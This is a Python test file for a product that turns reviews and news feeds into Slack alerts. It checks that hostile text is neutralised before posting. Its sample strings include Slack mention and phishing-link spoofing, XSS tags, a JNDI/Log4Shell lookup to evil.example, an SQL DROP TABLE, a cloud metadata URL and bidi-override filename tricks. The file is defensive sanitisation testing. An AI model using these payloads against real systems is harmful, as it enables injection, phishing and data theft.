"""Hostile words through the whole line, by feed and by file: stored, judged, told, and never alive."""

from __future__ import annotations

import gc
import importlib.util
import json
import warnings
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from stage import ALARM, Newsstand, Post, Stage, lost_and_doubled

from alerts.testing.slack import SlackLookalike

Judge = Callable[..., list[str]]

MARKUP = (
    "<!channel> <!here> <@U1> <#C1|general> <!subteam^S1> wake up",
    "<https://evil.example|https://bank.example/login> click",
    "[refund](https://evil.example) *bold* _it_ ~no~ `code` ```fence```",
    "&lt;!everyone&gt; &amp;lt;@U1&amp;gt; a < b > c & d",
    "> quoted\n>>> and more\n* list\n1. number",
    ":rotating_light: :siren: @here @channel @everyone #general",
    "mailto:boss@acme.example tel:+15550100 javascript:alert(1) http://169.254.169.254/latest",
    "safe \u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200e\u061c\ufeff end",
    "bell \x07 escape \x1b[31mred\x1b[0m back\x08\x08 del \x7f C1 \x9b31m",
    "zalgo " + "e" + "\u0301" * 400,
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s %n '; DROP TABLE mention; --",
    "line\u2028separator\u2029paragraph\x85next",
)
BIG = ("😡" * 3_000, "word " * 16_000, "x" * 1_000_000, "\n" * 5_000 + "end", "W" * 4_000 + "<!channel>")
RUINED = ("nul \x00 byte", "lone \ud800 surrogate and \udfff another")


@pytest.fixture(scope="session")
def judge(test_data: Path) -> Judge:
    """A judge made from Slack's own type definitions, which knows nothing of this product."""
    path = test_data / "slack-judge" / "judge.py"
    spec = importlib.util.spec_from_file_location("slack_judge", path)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    with warnings.catch_warnings():
        # it leaves the files of its definitions open
        warnings.simplefilter("ignore", ResourceWarning)
        spec.loader.exec_module(module)
        gc.collect()
    found: Judge = module.judge
    return found


def hold(judge: Judge, calls: list[dict[str, Any]], untrusted: list[str]) -> int:
    """Every payload that was sent passes. Returns how many there were."""
    judged = 0
    for call in calls:
        if call["method"] in ("chat.postMessage", "chat.update"):
            assert call["answer"] == "ok", call["answer"]
            found = judge({"method": call["method"], "body": call["body"]}, untrusted=untrusted)
            assert found == [], found
            judged += 1
    return judged


def fed(texts: tuple[str, ...]) -> list[str]:
    """As the judge takes it: single lines."""
    return [line for text in texts for line in text.splitlines() if line.strip()]


@pytest.mark.slow
def test_hostile_words_of_a_file(stage: Stage, slack: SlackLookalike, judge: Judge, tmp_path: Path) -> None:
    texts = (*MARKUP, *BIG, *RUINED)
    now = datetime.now(UTC).isoformat()
    with (tmp_path / "reviews.jsonl").open("w", encoding="utf-8") as file:
        for number, text in enumerate(texts):
            words = {"id": f"<!here>{number}", "author": f"{text[:80]}", "title": text[:120]}
            words |= {"text": f"Terrible, never again, still waiting. {text}", "stars": 1, "published": now}
            words |= {"url": "javascript:alert(1)" if number % 2 else "https://x.example/<!here>|y"}
            file.write(json.dumps(words) + "\n")
    result = stage.well("import", "reviews.jsonl", "--alert", "all", "--json").json
    assert (result["read"], result["rejected"], result["complaints"]) == (len(texts), 0, len(texts))
    stage.well("run", "--once")
    stage.well("cases", "dismiss", "1", "--note", MARKUP[0] + MARKUP[7])
    stage.well("run", "--once")
    stage.settings["slack"]["storm_after"] = 2
    stage.write()
    lines = (tmp_path / "reviews.jsonl").read_text("utf-8").replace("<!here>", "again-", 1)
    (tmp_path / "again.jsonl").write_text(lines, "utf-8")
    stage.well("import", "again.jsonl", "--feed", "<!channel> again", "--alert", "none")
    stage.well("digest", "--post", "--since", "2020-01-01", "--until", "2999-01-01")
    judged = hold(judge, slack.calls, fed((*MARKUP, *BIG)))
    assert judged >= len(texts) + 2
    assert stage.account()["queued"] == 0
    shown = stage.well("cases", "list").out + stage.well("digest", "--since", "2020-01-01").out
    assert not [c for c in shown if c in "\x1b\x07\x00\x08\x9b\u202e\u2066\u200b"]


@pytest.mark.slow
def test_hostile_words_of_a_feed(stage: Stage, slack: SlackLookalike, stand: Newsstand, judge: Judge) -> None:
    def sound(text: str) -> str:
        return "".join(c for c in text if c >= " " or c in "\n\t")

    stage.listen("news")
    texts = tuple(sound(text) for text in (*MARKUP, *BIG[:3]))
    stand.feeds["news"] = [
        Post(number, f"{ALARM} {text}", author=text[:60]) for number, text in enumerate(texts, 1)
    ]
    stage.well("run", "--once")
    assert lost_and_doubled(stage.told, []) == (0, 0)
    status = stage.well("status", "--json").json
    assert (status["mentions"], status["complaints"]) == (len(texts), len(texts))
    assert stage.account()["delivered"] == len(texts)
    assert hold(judge, slack.calls, fed(texts)) >= len(texts)


def test_a_hostile_feed_name_and_business(
    stage: Stage, slack: SlackLookalike, stand: Newsstand, judge: Judge
) -> None:
    stage.settings["business"]["name"] = "Acme <!channel> & Sons"
    stage.listen("<@U1> news", url=stand.url("news"), match=False)
    old = datetime(2026, 1, 1, tzinfo=UTC)
    stand.feeds["news"] = [Post(1), Post(2, published=old)]
    stage.well("run", "--once")
    stage.well("digest", "--post")
    assert hold(judge, slack.calls, ["<!channel>", "<@U1>"]) == 3
